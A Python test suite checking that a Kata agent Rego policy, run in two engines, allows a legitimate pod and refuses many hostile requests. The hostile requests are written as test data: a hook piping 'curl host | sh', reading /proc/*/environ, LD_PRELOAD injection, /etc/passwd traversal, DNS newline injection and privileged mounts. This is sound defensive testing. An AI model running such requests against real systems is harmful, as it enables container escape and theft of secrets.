"""dvm.cdvm.agent_policy: the job pod's Kata agent policy, evaluated by two Rego engines.

Every request is evaluated with regorus (PyPI ``opa-eval``; the engine the Kata agent embeds)
and rego-cpp (PyPI ``regopy``) and both must agree. The agent allows a request only when
``data.agent_policy.<Request>`` is ``true``; anything else (``false``, undefined, an error) is
refused, and so it is here. The legitimate requests come from ``agent_requests`` (test
fixtures shaped as the agent serializes agent.proto); each hostile variant breaks one check.

Two differences between the harness and the agent, and why they do not hide an allowance:
opa-eval runs regorus with strict builtin errors (the agent does not), so a builtin given a
value of the wrong type is an error here and undefined there; both count as refusal unless a
rule negates it, and rego-cpp (not strict) must agree anyway. rego-cpp is given the request as
a value (``regopy.Input``), not JSON text: it does not decode escapes such as ``\\n`` in
``set_input_term``. Last, a property test changes any one field to any value of its protobuf
type and requires the engines to agree (it found a null list the two iterated differently;
the rules now require an array there).
"""

from __future__ import annotations

import copy
import json
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import opa_eval
import pytest
import regopy
from hypothesis import given, settings
from hypothesis import strategies as st

from dvm.cdvm.agent_policy import REQUEST_DEFAULTS
from dvm.cdvm.pod_contract import agent_policy

from .agent_requests import (
    SANDBOX_ID,
    WORKLOAD_ID,
    fixture_copy_file,
    fixture_create_sandbox,
    fixture_pause_container,
    fixture_pod_sequence,
    fixture_workload_container,
    job_spec_env,
)

JOB = "1" * 64
PROVIDER = "2" * 64
IMAGE = "registry.example:5000/cdvm/job@sha256:" + "3" * 64
EVIL = "registry.example/evil@sha256:" + "9" * 64


class Engines:
    """One job policy loaded in both engines."""

    def __init__(self, path: Path, text: str) -> None:
        self.path = path
        self.text = text

    def __repr__(self) -> str:  # short: Hypothesis prints it with every failing example
        return f"Engines({self.path.name})"

    def regorus(self, name: str, request: dict[str, Any]) -> bool:
        try:
            evaluator = opa_eval.OpaEval(str(self.path), query=f"data.agent_policy.{name}")
            result = evaluator.evaluate(json.dumps(request))
        except RuntimeError:  # no such rule: the agent's query errs, and it refuses
            return False
        return json.loads(result) is True

    def rego_cpp(self, name: str, request: dict[str, Any]) -> bool:
        interpreter = regopy.Interpreter()
        interpreter.add_module("policy.rego", self.text)
        interpreter.set_input(regopy.Input(request))
        # A query whose value is false reads as "undefined" in rego-cpp; ask for the package.
        output = str(interpreter.query("data.agent_policy"))
        assert output.startswith('{"expressions":'), output
        return json.loads(output)["expressions"][0].get(name) is True

    def allows(self, name: str, request: dict[str, Any]) -> bool:
        by_regorus = self.regorus(name, request)
        by_rego_cpp = self.rego_cpp(name, request)
        assert by_regorus == by_rego_cpp, f"engines disagree on {name}"
        return by_regorus


@pytest.fixture(scope="module")
def policies(tmp_path_factory: pytest.TempPathFactory) -> dict[bool, Engines]:
    root = tmp_path_factory.mktemp("policy")
    engines = {}
    for gpu in (False, True):
        text = agent_policy(job_id=JOB, provider=PROVIDER, image=IMAGE, gpu=gpu)
        path = root / f"policy-gpu-{gpu}.rego"
        path.write_text(text, encoding="utf-8")
        engines[gpu] = Engines(path, text)
    return engines


# --- the legitimate pod -------------------------------------------------------------------------


@pytest.mark.parametrize("gpu", [False, True], ids=["cpu-pod", "gpu-pod"])
def test_the_whole_pod_lifecycle_is_allowed(policies: dict[bool, Engines], gpu: bool) -> None:
    sequence = fixture_pod_sequence(JOB, PROVIDER, IMAGE, gpu=gpu)
    refused = [name for name, request in sequence if not policies[gpu].allows(name, request)]
    assert refused == []


def test_the_workload_without_optional_fields_is_allowed(policies: dict[bool, Engines]) -> None:
    # No guest-pull metadata, no scratch storage, no network namespace path: still this pod.
    request = fixture_workload_container(JOB, PROVIDER, IMAGE)
    request["storages"][0]["driver_options"] = []
    del request["storages"][1]
    request["OCI"]["Linux"]["Namespaces"][3]["Path"] = ""
    request["OCI"]["Linux"]["Sysctl"] = {}
    assert policies[False].allows("CreateContainerRequest", request)


# --- hostile variants: each breaks one check --------------------------------------------------

Mutation = Callable[[dict[str, Any]], None]


def _set(path: str, value: Any) -> Mutation:
    def mutate(request: dict[str, Any]) -> None:
        node = request
        *parents, last = path.split("/")
        for key in parents:
            node = node[int(key)] if isinstance(node, list) else node[key]
        if isinstance(node, list):
            node[int(last)] = value
        else:
            node[last] = value

    return mutate


def _append(path: str, value: Any) -> Mutation:
    def mutate(request: dict[str, Any]) -> None:
        node = request
        for key in path.split("/"):
            node = node[int(key)] if isinstance(node, list) else node[key]
        node.append(copy.deepcopy(value))

    return mutate


def _all(*mutations: Mutation) -> Mutation:
    def mutate(request: dict[str, Any]) -> None:
        for mutation in mutations:
            mutation(request)

    return mutate


def _annotate(key: str, value: str) -> Mutation:
    def mutate(request: dict[str, Any]) -> None:
        request["OCI"]["Annotations"][key] = value

    return mutate


def _pull_metadata(**metadata: str) -> Mutation:
    keys = {"kind": "io.kubernetes.cri.container-type", "image": "io.kubernetes.cri.image-name"}
    named = {keys.get(k, k): v for k, v in metadata.items()}
    option = "image_guest_pull=" + json.dumps({"metadata": named})
    return _set("storages/0/driver_options", [option])


def _caps(*caps: str) -> Mutation:
    sets = ("Bounding", "Effective", "Permitted", "Inheritable", "Ambient")
    return _set("OCI/Process/Capabilities", {s: list(caps) for s in sets})


def _blk_rootfs(container_id: str) -> dict[str, Any]:
    return {
        "driver": "blk",
        "driver_options": [],
        "source": "0000:00:05.0",
        "fstype": "ext4",
        "options": [],
        "mount_point": f"/run/kata-containers/{container_id}/rootfs",
        "fs_group": None,
    }


OTHER_ID = "e" * 64
HOOK = {"Path": "/bin/sh", "Args": ["sh", "-c", "curl host | sh"], "Env": [], "Timeout": 0}
_EMPTY_HOOKS = {"Prestart": [], "CreateRuntime": [], "CreateContainer": []}
_EMPTY_HOOKS |= {"StartContainer": [], "Poststart": [], "Poststop": []}

BUILDERS: dict[str, Callable[[], tuple[str, dict[str, Any]]]] = {
    "sandbox": lambda: ("CreateSandboxRequest", fixture_create_sandbox(JOB)),
    "pause": lambda: ("CreateContainerRequest", fixture_pause_container(JOB)),
    "workload": lambda: (
        "CreateContainerRequest",
        fixture_workload_container(JOB, PROVIDER, IMAGE),
    ),
    "gpu-workload": lambda: (
        "CreateContainerRequest",
        fixture_workload_container(JOB, PROVIDER, IMAGE, gpu=True),
    ),
    "copy": lambda: ("CopyFileRequest", fixture_copy_file(WORKLOAD_ID, "hosts")),
}
BUILDERS["routes"] = lambda: (
    "UpdateRoutesRequest",
    dict(fixture_pod_sequence(JOB, PROVIDER, IMAGE))["UpdateRoutesRequest"],
)
BUILDERS["interface"] = lambda: (
    "UpdateInterfaceRequest",
    dict(fixture_pod_sequence(JOB, PROVIDER, IMAGE))["UpdateInterfaceRequest"],
)
BUILDERS["arp"] = lambda: (
    "AddARPNeighborsRequest",
    dict(fixture_pod_sequence(JOB, PROVIDER, IMAGE))["AddARPNeighborsRequest"],
)

# (id, base, gpu policy?, mutation)
ATTACKS: list[tuple[str, str, bool, Mutation]] = [
    # The five attacks of the security review (issue 9).
    (
        "second-sandbox-container-runs-sh-as-root-from-host-block-device",
        "pause",
        False,
        _all(
            _set("container_id", OTHER_ID),
            _set("OCI/Root/Path", f"/run/kata-containers/{OTHER_ID}/rootfs"),
            _set("storages", [_blk_rootfs(OTHER_ID)]),
            _set("OCI/Process/Args", ["/bin/sh", "-c", "cat /proc/*/environ"]),
            _set("OCI/Process/User", {"UID": 0, "GID": 0, "AdditionalGids": [], "Username": ""}),
        ),
    ),
    (
        "workload-with-prestart-hook-and-cap-sys-admin",
        "workload",
        False,
        _all(_set("OCI/Hooks", _EMPTY_HOOKS | {"Prestart": [HOOK]}), _caps("CAP_SYS_ADMIN")),
    ),
    ("executable-copy", "copy", False, _set("file_mode", 0o100755)),
    (
        "absolute-symlink-copy",
        "copy",
        False,
        _all(_set("file_mode", 0o120777), _set("symlink_src", "/opt/cdvm/bin/python")),
    ),
    ("guest-hook-path", "sandbox", False, _set("guest_hook_path", "/run/evil-hooks")),
    # The sandbox.
    ("sandbox-kernel-module", "sandbox", False, _append("kernel_modules", {"name": "evil"})),
    ("sandbox-shared-pid-namespace", "sandbox", False, _set("sandbox_pidns", True)),
    ("sandbox-guest-user-namespace", "sandbox", False, _set("guest_userns", True)),
    ("sandbox-host-block-storage", "sandbox", False, _append("storages", _blk_rootfs("x"))),
    ("sandbox-executable-shm", "sandbox", False, _append("storages/0/options", "exec")),
    ("sandbox-of-another-pod", "sandbox", False, _set("hostname", "cdvm-job-" + "f" * 40)),
    ("sandbox-dns-injection", "sandbox", False, _append("dns", "nameserver 1.1.1.1\n#")),
    # The pause container.
    ("pause-writable-root", "pause", False, _set("OCI/Root/Readonly", False)),
    ("pause-cap-sys-admin", "pause", False, _caps("CAP_SYS_ADMIN")),
    ("pause-other-program", "pause", False, _set("OCI/Process/Args", ["/bin/sh"])),
    ("pause-as-root", "pause", False, _set("OCI/Process/User/UID", 0)),
    (
        "pause-host-path-mount",
        "pause",
        False,
        _append(
            "OCI/Mounts",
            {"destination": "/models", "source": "/", "type_": "bind", "options": ["rbind"]},
        ),
    ),
    (
        "pause-device",
        "pause",
        False,
        _append("OCI/Linux/Devices", {"Path": "/dev/sda", "Type": "b", "Major": 8}),
    ),
    (
        "sandbox-annotation-on-a-pod-container",
        "pause",
        False,
        _annotate("io.katacontainers.pkg.oci.container_type", "pod_container"),
    ),
    (
        "second-pause-container-under-another-id",
        "pause",
        False,
        _all(
            _set("container_id", OTHER_ID),
            _set("OCI/Root/Path", f"/run/kata-containers/{OTHER_ID}/rootfs"),
            _set("storages/0/mount_point", f"/run/kata-containers/{OTHER_ID}/rootfs"),
        ),
    ),
    ("pause-without-capability-sets", "pause", False, _set("OCI/Process/Capabilities", None)),
    ("pause-without-pull-metadata", "pause", False, _set("storages/0/driver_options", [])),
    ("pause-pull-metadata-not-sandbox", "pause", False, _pull_metadata(kind="container")),
    ("workload-pull-metadata-says-sandbox", "workload", False, _pull_metadata(kind="sandbox")),
    (
        "workload-pull-metadata-cri-o-sandbox",
        "workload",
        False,
        _pull_metadata(kind="container", **{"io.kubernetes.cri-o.ContainerType": "sandbox"}),
    ),
    (
        "pause-of-another-pod",
        "pause",
        False,
        _annotate("io.kubernetes.cri.sandbox-name", "cdvm-job-" + "f" * 40),
    ),
    # The workload's identity: image, command, user, environment.
    (
        "other-image-annotation",
        "workload",
        False,
        _annotate("io.kubernetes.cri.image-name", EVIL),
    ),
    ("other-image-pulled", "workload", False, _set("storages/0/source", EVIL)),
    (
        "pull-metadata-names-other-image",
        "workload",
        False,
        _pull_metadata(kind="container", image=EVIL),
    ),
    ("host-supplied-rootfs", "workload", False, _set("storages", [_blk_rootfs(WORKLOAD_ID)])),
    ("host-block-device-storage", "workload", False, _append("storages", _blk_rootfs("x"))),
    (
        "two-guest-pull-storages",
        "workload",
        False,
        _append("storages", fixture_workload_container(JOB, PROVIDER, IMAGE)["storages"][0]),
    ),
    (
        "rootfs-elsewhere",
        "workload",
        False,
        _set("OCI/Root/Path", "/run/kata-containers/shared/containers/x/rootfs"),
    ),
    ("other-command", "workload", False, _set("OCI/Process/Args", ["/bin/sh", "-c", "env"])),
    ("working-directory-elsewhere", "workload", False, _set("OCI/Process/Cwd", "/etc")),
    ("root-user", "workload", False, _set("OCI/Process/User/UID", 0)),
    ("root-group", "workload", False, _set("OCI/Process/User/GID", 0)),
    ("supplementary-root-group", "workload", False, _append("OCI/Process/User/AdditionalGids", 0)),
    ("writable-root", "workload", False, _set("OCI/Root/Readonly", False)),
    ("terminal", "workload", False, _set("OCI/Process/Terminal", True)),
    ("any-capability", "workload", False, _caps("CAP_NET_RAW")),
    ("privilege-escalation", "workload", False, _set("OCI/Process/NoNewPrivileges", False)),
    ("poststart-hook", "workload", False, _set("OCI/Hooks", _EMPTY_HOOKS | {"Poststart": [HOOK]})),
    (
        "other-container-name",
        "workload",
        False,
        _annotate("io.kubernetes.cri.container-name", "sidecar"),
    ),
    ("unknown-annotation", "workload", False, _annotate("example.com/inject", "1")),
    ("pythonpath", "workload", False, _append("OCI/Process/Env", "PYTHONPATH=/tmp/evil")),
    ("ld-preload", "workload", False, _append("OCI/Process/Env", "LD_PRELOAD=/tmp/evil.so")),
    ("other-hostname-env", "workload", False, _append("OCI/Process/Env", "HOSTNAME=evil")),
    ("other-job", "workload", False, _set("OCI/Process/Env/9", job_spec_env("8" * 64, PROVIDER))),
    ("other-provider", "workload", False, _set("OCI/Process/Env/9", job_spec_env(JOB, "8" * 64))),
    ("two-job-specs", "workload", False, _append("OCI/Process/Env", job_spec_env(JOB, PROVIDER))),
    ("no-job-spec", "workload", False, _set("OCI/Process/Env/9", "LANG=C")),
    ("shared-mounts", "workload", False, _append("shared_mounts", {"name": "x", "src_ctr": "a"})),
    ("string-user", "workload", False, _set("string_user", {"uid": "0", "gid": "0"})),
    ("container-joins-sandbox-pid-namespace", "workload", False, _set("sandbox_pidns", True)),
    ("non-hex-container-id", "workload", False, _set("container_id", "../../etc")),
    # Kernel confinement: seccomp, namespaces, masked paths, sysctls.
    ("no-seccomp", "workload", False, _set("OCI/Linux/Seccomp", None)),
    (
        "seccomp-allow-by-default",
        "workload",
        False,
        _set("OCI/Linux/Seccomp/DefaultAction", "SCMP_ACT_ALLOW"),
    ),
    (
        "seccomp-log-by-default",
        "workload",
        False,
        _set("OCI/Linux/Seccomp/DefaultAction", "SCMP_ACT_LOG"),
    ),
    (
        "seccomp-notify-to-host",
        "workload",
        False,
        _append(
            "OCI/Linux/Seccomp/Syscalls",
            {"Names": ["openat"], "Action": "SCMP_ACT_NOTIFY", "Args": []},
        ),
    ),
    (
        "seccomp-allows-mount-and-keyctl",
        "workload",
        False,
        _append(
            "OCI/Linux/Seccomp/Syscalls",
            {"Names": ["mount", "keyctl"], "Action": "SCMP_ACT_ALLOW", "Args": []},
        ),
    ),
    (
        "user-namespace",
        "workload",
        False,
        _append("OCI/Linux/Namespaces", {"Type": "user", "Path": ""}),
    ),
    (
        "uid-mapping",
        "workload",
        False,
        _append("OCI/Linux/UIDMappings", {"ContainerID": 0, "HostID": 0, "Size": 1}),
    ),
    (
        "joins-guest-pid-namespace",
        "workload",
        False,
        _append("OCI/Linux/Namespaces", {"Type": "pid", "Path": "/proc/1/ns/pid"}),
    ),
    (
        "joins-guest-root-network",
        "workload",
        False,
        _set("OCI/Linux/Namespaces/3/Path", "/proc/1/ns/net"),
    ),
    ("no-mount-namespace", "workload", False, _set("OCI/Linux/Namespaces/2/Type", "cgroup")),
    ("unmasked-proc-kcore", "workload", False, _set("OCI/Linux/MaskedPaths", ["/proc/acpi"])),
    ("writable-proc-sys", "workload", False, _set("OCI/Linux/ReadonlyPaths", [])),
    (
        "sysctl-core-pattern",
        "workload",
        False,
        _set("OCI/Linux/Sysctl/kernel.core_pattern", "|/tmp/x"),
    ),
    # Mounts: destinations, types, sources and options from the allowlist only.
    (
        "host-models-mount",
        "workload",
        False,
        _append(
            "OCI/Mounts",
            {
                "destination": "/models",
                "source": "/run/kata-containers/shared/containers/m",
                "type_": "bind",
                "options": ["rbind"],
            },
        ),
    ),
    (
        "mount-over-the-interpreter",
        "workload",
        False,
        _set("OCI/Mounts/9/destination", "/opt/cdvm/bin/python"),
    ),
    ("proc-without-nosuid", "workload", False, _set("OCI/Mounts/0/options", ["noexec", "nodev"])),
    (
        "writable-sysfs",
        "workload",
        False,
        _set("OCI/Mounts/4/options", ["nosuid", "noexec", "nodev", "rw"]),
    ),
    ("scratch-mounted-exec-suid", "workload", False, _append("OCI/Mounts/7/options", "exec")),
    (
        "scratch-from-another-source",
        "workload",
        False,
        _set("OCI/Mounts/7/source", "/run/kata-containers/sandbox/storage/x"),
    ),
    (
        "hosts-of-another-container",
        "workload",
        False,
        _set(
            "OCI/Mounts/8/source",
            f"/run/kata-containers/shared/containers/{SANDBOX_ID}-0123456789abcdef-hosts",
        ),
    ),
    (
        "shm-from-elsewhere",
        "workload",
        False,
        _set("OCI/Mounts/5/source", "/run/kata-containers/shared/containers"),
    ),
    ("proc-as-bind", "workload", False, _set("OCI/Mounts/0/type_", "bind")),
    (
        "scratch-storage-elsewhere",
        "workload",
        False,
        _set("storages/1/mount_point", "/run/kata-containers/sandbox/shm"),
    ),
    # Devices.
    (
        "cpu-job-block-device",
        "workload",
        False,
        _append(
            "devices",
            {
                "id": "b",
                "type_": "blk",
                "vm_path": "/dev/vda",
                "container_path": "/dev/sda",
                "options": [],
            },
        ),
    ),
    (
        "cpu-job-dev-mem",
        "workload",
        False,
        _append("OCI/Linux/Devices", {"Path": "/dev/mem", "Type": "c", "Major": 1, "Minor": 1}),
    ),
    ("cpu-job-gpu", "gpu-workload", False, lambda r: None),
    (
        "cpu-job-cdi-annotation",
        "workload",
        False,
        _annotate("cdi.k8s.io/vfio0", "nvidia.com/pgpu=0"),
    ),
    (
        "gpu-job-second-device",
        "gpu-workload",
        True,
        _append(
            "devices",
            {
                "id": "vfio1",
                "type_": "vfio-pci-gk",
                "vm_path": "",
                "container_path": "/dev/vfio/devices/vfio1",
                "options": [],
            },
        ),
    ),
    (
        "gpu-job-block-device",
        "gpu-workload",
        True,
        _set(
            "devices/0",
            {
                "id": "b",
                "type_": "blk",
                "vm_path": "/dev/vdb",
                "container_path": "/dev/sda",
                "options": [],
            },
        ),
    ),
    (
        "gpu-job-dev-mem",
        "gpu-workload",
        True,
        _append("OCI/Linux/Devices", {"Path": "/dev/mem", "Type": "c", "Major": 1, "Minor": 1}),
    ),
    (
        "gpu-job-gpu-in-pause-container",
        "pause",
        True,
        _append(
            "devices",
            {
                "id": "vfio0",
                "type_": "vfio-pci-gk",
                "vm_path": "",
                "container_path": "/dev/vfio/devices/vfio0",
                "options": [],
            },
        ),
    ),
    # Copies.
    ("copy-outside-shared-dir", "copy", False, _set("path", "/etc/passwd")),
    (
        "copy-traversal",
        "copy",
        False,
        _set(
            "path",
            f"/run/kata-containers/shared/containers/{WORKLOAD_ID}-0123456789abcdef-hosts/../../../../etc/passwd",
        ),
    ),
    (
        "copy-into-rootfs",
        "copy",
        False,
        _set("path", f"/run/kata-containers/{WORKLOAD_ID}/rootfs/opt/cdvm/bin/python"),
    ),
    (
        "copy-other-file",
        "copy",
        False,
        _set(
            "path", f"/run/kata-containers/shared/containers/{WORKLOAD_ID}-0123456789abcdef-run.sh"
        ),
    ),
    ("copy-directory", "copy", False, _set("file_mode", 0o40755)),
    ("copy-setuid-file", "copy", False, _set("file_mode", 0o104644)),
    ("copy-group-executable", "copy", False, _set("file_mode", 0o100654)),
    (
        "copy-relative-symlink",
        "copy",
        False,
        _all(_set("file_mode", 0o120777), _set("symlink_src", "../x")),
    ),
    ("copy-symlink-by-file-type", "copy", False, _set("file_type", "Symlink")),
    # The guest's loopback, where the attestation agent answers.
    ("route-via-loopback-device", "routes", False, _set("routes/Routes/0/device", "lo")),
    ("route-from-127-source", "routes", False, _set("routes/Routes/1/source", "127.0.0.1")),
    ("route-to-ipv6-loopback", "routes", False, _set("routes/Routes/1/dest", "::1/128")),
    ("rename-loopback-interface", "interface", False, _set("interface/name", "lo")),
    (
        "loopback-address-on-eth0",
        "interface",
        False,
        _set("interface/IPAddresses/0/address", "127.0.0.2"),
    ),
    ("arp-neighbor-on-loopback", "arp", False, _set("neighbors/ARPNeighbors/0/device", "lo")),
]


def _attack_cases() -> Iterator[Any]:
    for attack_id, base, gpu, mutation in ATTACKS:
        yield pytest.param(base, gpu, mutation, id=attack_id)


@pytest.mark.parametrize(("base", "gpu", "mutation"), list(_attack_cases()))
def test_a_hostile_request_is_refused(
    policies: dict[bool, Engines], base: str, gpu: bool, mutation: Mutation
) -> None:
    name, request = BUILDERS[base]()
    natural = policies[base == "gpu-workload"]
    assert natural.allows(name, copy.deepcopy(request)), "the unbroken request is allowed"
    mutation(request)
    assert not policies[gpu].allows(name, request)


def test_there_are_at_least_forty_distinct_attacks() -> None:
    ids = [attack_id for attack_id, *_ in ATTACKS]
    assert len(ids) == len(set(ids)) >= 40


REFUSED_ENDPOINTS = {
    "ExecProcessRequest": {
        "container_id": WORKLOAD_ID,
        "exec_id": "e",
        "process": {"Args": ["/bin/sh"]},
    },
    "ReadStreamRequest": {"container_id": WORKLOAD_ID, "exec_id": WORKLOAD_ID, "len": 4096},
    "WriteStreamRequest": {"container_id": WORKLOAD_ID, "exec_id": WORKLOAD_ID, "data": [104]},
    "CloseStdinRequest": {"container_id": WORKLOAD_ID, "exec_id": WORKLOAD_ID},
    "TtyWinResizeRequest": {
        "container_id": WORKLOAD_ID,
        "exec_id": WORKLOAD_ID,
        "row": 1,
        "column": 1,
    },
    "SetPolicyRequest": {"policy": "package agent_policy\ndefault ExecProcessRequest := true\n"},
    "AllowRequestsFailingPolicy": {},
    "StartTracingRequest": {},
    "GetMetricsRequest": {},
    "AddSwapRequest": {"PCIPath": [1]},
    "SetGuestDateTimeRequest": {"Sec": 0, "Usec": 0},
    "ReseedRandomDevRequest": {"data": [0, 0, 0, 0]},
    "SetIPTablesRequest": {"is_ipv6": False, "data": [42]},
    "UpdateContainerRequest": {"container_id": WORKLOAD_ID, "resources": None},
    "UpdateEphemeralMountsRequest": {"storages": []},
    "PauseContainerRequest": {"container_id": WORKLOAD_ID},
    "PullImageRequest": {"image": IMAGE, "container_id": WORKLOAD_ID},
    "ResizeVolumeRequest": {"volume_guest_path": "/", "size": 1},
    "NotAnAgentRequest": {},
}


@pytest.mark.parametrize("name", sorted(REFUSED_ENDPOINTS))
def test_endpoints_outside_the_pod_lifecycle_are_refused(
    policies: dict[bool, Engines], name: str
) -> None:
    for gpu in (False, True):
        assert not policies[gpu].allows(name, REFUSED_ENDPOINTS[name])


def test_only_field_free_lifecycle_requests_default_to_allowed() -> None:
    assert {name for name, allowed in REQUEST_DEFAULTS.items() if allowed} == {
        "DestroySandboxRequest",
        "GetOOMEventRequest",
        "GuestDetailsRequest",
        "OnlineCPUMemRequest",
        "RemoveContainerRequest",
        "RemoveStaleVirtiofsShareMountsRequest",
        "SignalProcessRequest",
        "StartContainerRequest",
        "StatsContainerRequest",
        "WaitProcessRequest",
    }


def test_every_default_is_in_the_text_and_rules_use_the_if_keyword(
    policies: dict[bool, Engines],
) -> None:
    text = policies[False].text
    for name, allowed in REQUEST_DEFAULTS.items():
        assert f"\ndefault {name} := {'true' if allowed else 'false'}\n" in text
    assert "import future.keywords.if\n" in text
    assert "import future.keywords.in\n" in text
    # Every rule body opens with `if {`: without the keyword regorus and rego-cpp may differ.
    heads = [line for line in text.splitlines() if line.endswith("{") and not line[:1].isspace()]
    assert heads
    assert all(head.endswith(" if {") or " := {" in head for head in heads), heads


def test_the_gpu_and_cpu_policies_differ_only_in_the_gpu_flag(
    policies: dict[bool, Engines],
) -> None:
    cpu, gpu = policies[False].text, policies[True].text
    assert cpu.replace("\ngpu := false\n", "\ngpu := true\n") == gpu


# --- the two engines agree on any one field changed to any JSON value ---------------------------


def _leaf_paths(node: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    if path:
        yield path
    if isinstance(node, dict):
        for key, value in node.items():
            yield from _leaf_paths(value, (*path, key))
    elif isinstance(node, list):
        for index, value in enumerate(node):
            yield from _leaf_paths(value, (*path, index))


def _like(original: Any) -> st.SearchStrategy[Any]:
    """Values of the original's JSON type: what a protobuf field of that type can hold."""
    # No NUL: regopy hands strings to rego-cpp as C strings, which end there (regorus does not).
    text = st.text(st.characters(codec="utf-8", exclude_characters="\x00"), max_size=12)
    if isinstance(original, bool):
        return st.booleans()
    if isinstance(original, int):
        return st.integers(min_value=-(2**31), max_value=2**32)
    if isinstance(original, str):
        return text | st.sampled_from(["", "lo", "127.0.0.1", "/", "..", "sandbox", IMAGE])
    if isinstance(original, list):
        return st.lists(_like(original[0]) if original else text, max_size=3)
    # A message field: absent (null) or a message of some other content.
    return st.none() | st.dictionaries(text, text | st.lists(text, max_size=2), max_size=3)


def _field_values(base: str) -> st.SearchStrategy[tuple[str, tuple[Any, ...], Any]]:
    request = BUILDERS[base]()[1]

    def at(path: tuple[Any, ...]) -> Any:
        node = request
        for key in path:
            node = node[key]
        return node

    return st.sampled_from(list(_leaf_paths(request))).flatmap(
        lambda path: st.tuples(st.just(base), st.just(path), _like(at(path)))
    )


_FIELD_VALUES = st.one_of(
    [
        _field_values(base)
        for base in ("sandbox", "pause", "workload", "copy", "routes", "interface", "arp")
    ]
)


@settings(max_examples=150, deadline=None)
@given(change=_FIELD_VALUES)
def test_the_engines_agree_whatever_one_field_holds(
    policies: dict[bool, Engines], change: tuple[str, tuple[Any, ...], Any]
) -> None:
    base, path, value = change
    name, request = BUILDERS[base]()
    node = request
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value
    policies[False].allows(name, request)  # asserts that regorus and rego-cpp agree
